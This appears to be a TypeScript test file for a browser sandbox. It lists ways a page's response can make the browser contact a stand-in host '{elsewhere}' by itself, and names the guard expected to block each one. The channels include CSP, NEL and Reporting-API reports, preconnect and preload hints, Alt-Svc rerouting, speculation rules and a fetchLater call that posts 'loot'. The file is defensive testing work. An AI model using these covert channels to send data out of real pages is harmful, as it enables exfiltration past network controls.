/**
 * What a page's response makes the browser send by itself, besides the page's requests: reports, hints, other ways to
 * the same service.
 */
import type { Area, Attack } from '../attack.ts'
import { refusedBy, shows } from './scripts.ts'

const WAIT = 'await new Promise((r) => setTimeout(r, 400))'

/** Where reports go: by the header for documents, and by the older one that the network stack keeps. */
const TO_ELSEWHERE = { 'Reporting-Endpoints': 'e="https://{elsewhere}/", default="https://{elsewhere}/default"' }
const KEPT = {
  'Report-To': '{"group":"e","max_age":600,"endpoints":[{"url":"https://{elsewhere}/"}]}'
}
const EVERY_REQUEST = { ...KEPT, NEL: '{"report_to":"e","max_age":600,"success_fraction":1,"failure_fraction":1}' }

/** A page whose response has something reported, and what there is to report. */
const reports = (name: string, headers: Record<string, string>, what: { page?: string; script?: string }): Attack => ({
  name: `have it reported to elsewhere ${name}`,
  headers: { ...TO_ELSEWHERE, ...headers },
  script: WAIT,
  ...what
})

/** Two requests, the second of which could take another way. */
const ASK_TWICE = `await fetch("/a"); ${WAIT}; await fetch("/b"); ${WAIT}`

export const unseen: Area = {
  title: 'What the browser sends by itself',
  about:
    'An answer’s headers can have the browser send something without any request of the page: a report, a line that is opened ahead, the same request by another way. The guard of requests isn’t asked. These rows play on an encrypted service, since a browser does most of this only there; elsewhere hears lines and datagrams, too.',
  by: 'signing page',
  guard: ['permissions', 'switches'],
  sharesTurns: true,
  isEncrypted: true,
  attacks: [
    reports(
      'that a policy is broken',
      { 'Content-Security-Policy': "img-src 'none'; report-to e" },
      { page: '<img src=/a.png>' }
    ),
    reports(
      'that a policy would be broken',
      { 'Content-Security-Policy-Report-Only': "img-src 'none'; report-to e" },
      { page: '<img src=/a.png>' }
    ),
    reports(
      'that a permission is used',
      { 'Permissions-Policy-Report-Only': 'geolocation=();report-to=e' },
      { script: `navigator.geolocation.getCurrentPosition(() => {}, () => {}); ${WAIT}` }
    ),
    reports(
      'that a frame doesn’t say what it needs',
      { 'Cross-Origin-Embedder-Policy-Report-Only': 'require-corp; report-to="e"' },
      { page: '<iframe src=/embedded></iframe>' }
    ),
    reports(
      'that a frame is refused for what it doesn’t say',
      { 'Cross-Origin-Embedder-Policy': 'require-corp; report-to="e"' },
      { page: '<iframe src=/embedded></iframe>' }
    ),
    reports(
      'that a script has no checksum',
      { 'Integrity-Policy-Report-Only': 'blocked-destinations=(script), endpoints=(e)' },
      { page: '<script src=/a.js></script>' }
    ),
    reports(
      'that something old is used',
      {},
      { script: `const x = new XMLHttpRequest(); x.open("GET", "/a", false); x.send(); ${WAIT}` }
    ),
    reports(
      'from a frame',
      {},
      {
        page: '<iframe id=f></iframe>',
        script: `document.getElementById("f").src = "/say?h=Reporting-Endpoints:e=%22https://{elsewhere}/%22&h=" + encodeURIComponent("Content-Security-Policy:img-src 'none'; report-to e") + "&body=" + encodeURIComponent("<img src=/a.png>"); ${WAIT}`
      }
    ),
    reports(
      'as the page is left',
      { 'Content-Security-Policy': "img-src 'none'; report-to e" },
      { script: 'document.body.append(Object.assign(new Image(), { src: "/a.png" }))' }
    ),
    {
      ...reports('that its page has ended', {}, {}),
      script: '',
      play: async (scene) => {
        await scene.say({ do: 'crash-signing-page' })
        await scene.until(() => scene.kinds().includes('failed'), 'the turn to fail')
        await scene.pause(400)
      },
      turnIs: 'failed'
    },
    {
      ...reports('that a policy is broken, by the older header', {}, { page: '<img src=/a.png>' }),
      headers: { ...KEPT, 'Content-Security-Policy': "img-src 'none'; report-to e" },
      sharesTurn: false
    },
    {
      ...reports('that a request succeeds', {}, { script: ASK_TWICE }),
      headers: EVERY_REQUEST,
      sharesTurn: false
    },
    {
      ...reports('that a request fails', {}, { script: `await fetch("/reset").catch(() => {}); ${WAIT}` }),
      headers: EVERY_REQUEST,
      sharesTurn: false
    },
    {
      name: 'have a policy report by the oldest header',
      headers: { 'Content-Security-Policy': "img-src 'none'; report-uri https://{elsewhere}/" },
      page: '<img src=/a.png>',
      script: WAIT,
      guard: ['request'],
      message: 'private network (127.0.0.1)'
    },
    {
      name: 'open a line to elsewhere ahead of its answer',
      hints: ['<https://{elsewhere}>; rel=preconnect'],
      script: WAIT,
      guard: ['switches']
    },
    {
      name: 'open a line to elsewhere ahead of its answer, without saying who asks',
      hints: ['<https://{elsewhere}>; rel=preconnect; crossorigin'],
      script: WAIT,
      guard: ['switches']
    },
    ...(
      [
        ['a script', 'rel=preload; as=script'],
        ['a part of a script', 'rel=modulepreload'],
        ['a style', 'rel=preload; as=style'],
        ['a picture', 'rel=preload; as=image']
      ] as const
    ).map(
      ([what, how]): Attack => ({
        name: `have ${what} fetched from elsewhere ahead of its answer`,
        hints: [`<https://{elsewhere}/a>; ${how}`],
        script: WAIT,
        guard: ['switches']
      })
    ),
    {
      name: 'open a line to elsewhere by its answer’s header',
      headers: { Link: '<https://{elsewhere}>; rel=preconnect' },
      script: WAIT,
      guard: ['browser']
    },
    {
      name: 'open a line to elsewhere by a tag',
      script: shows('<link rel=preconnect href="https://{elsewhere}/">', 400),
      guard: ['browser']
    },
    ...(
      [
        ['a script', 'rel=preload; as=script'],
        ['a part of a script', 'rel=modulepreload'],
        ['a page to come', 'rel=prefetch']
      ] as const
    ).map(
      ([what, how]): Attack => ({
        name: `have ${what} fetched from elsewhere by its answer’s header`,
        headers: { Link: `<https://{elsewhere}/a>; ${how}` },
        script: WAIT,
        guard: ['request']
      })
    ),
    {
      name: 'have a page of elsewhere made ready ahead, encrypted',
      script: shows(
        '<script type=speculationrules>{"prefetch":[{"urls":["https://{elsewhere}/a"],"eagerness":"immediate"}],"prerender":[{"urls":["https://{elsewhere}/b"],"eagerness":"immediate"}]}</script>',
        400
      ),
      guard: ['browser']
    },
    {
      name: 'have a dictionary fetched from elsewhere by its answer’s header',
      headers: { Link: '<https://{elsewhere}/a>; rel=compression-dictionary' },
      script: WAIT,
      guard: ['browser']
    },
    {
      name: 'have rules from elsewhere say what is made ready ahead',
      headers: { 'Speculation-Rules': '"https://{elsewhere}/rules.json"' },
      script: WAIT,
      guard: ['request']
    },
    ...(
      [
        ['another host and port', 'h3="{elsewhere}"'],
        ['another port', 'h3=":{elsewhere-port}"']
      ] as const
    ).map(
      ([where, how]): Attack => ({
        name: `have its requests take another way, to ${where}`,
        headers: { 'Alt-Svc': `${how}; ma=600; persist=1` },
        script: ASK_TWICE,
        guard: ['switches'],
        sharesTurn: false
      })
    ),
    {
      name: 'have its requests take another way, over a line',
      headers: { 'Alt-Svc': 'h2="{elsewhere}"; ma=600' },
      script: ASK_TWICE,
      guard: ['browser'],
      sharesTurn: false
    },
    {
      name: 'send its page elsewhere by its answer’s header, encrypted',
      headers: { Refresh: '0;url=https://{elsewhere}/' },
      guard: ['ground', 'request'],
      message: '127.0.0.1',
      mayEndItself: true
    },
    {
      name: 'have a script’s source fetched from elsewhere',
      page: '<script src="/say?type=text/javascript&h=SourceMap:https://{elsewhere}/a.map&body=throw 1"></script>',
      script: WAIT,
      guard: ['browser']
    },
    {
      name: 'have advertising’s computers told',
      page: '<img attributionsrc="https://{elsewhere}/a" src=/a.png>',
      script: WAIT,
      guard: ['browser']
    },
    {
      name: 'send a last word as the page is left, encrypted',
      script: 'try { fetchLater("https://{elsewhere}/", { method: "POST", body: "loot" }) } catch {}',
      guard: ['policy', 'request']
    },
    {
      name: 'log in with an account of elsewhere',
      script: refusedBy(
        'navigator.credentials.get({ identity: { providers: [{ configURL: "https://{elsewhere}/fedcm.json", clientId: "a", nonce: "a" }] } })'
      ),
      answers: 'refused',
      guard: ['policy']
    },
    {
      name: 'pay with a wallet of elsewhere',
      script: refusedBy(
        'new PaymentRequest([{ supportedMethods: "https://{elsewhere}/pay" }], { total: { label: "a", amount: { currency: "EUR", value: "1" } } }).show()'
      ),
      answers: 'refused',
      guard: ['browser']
    }
  ]
}
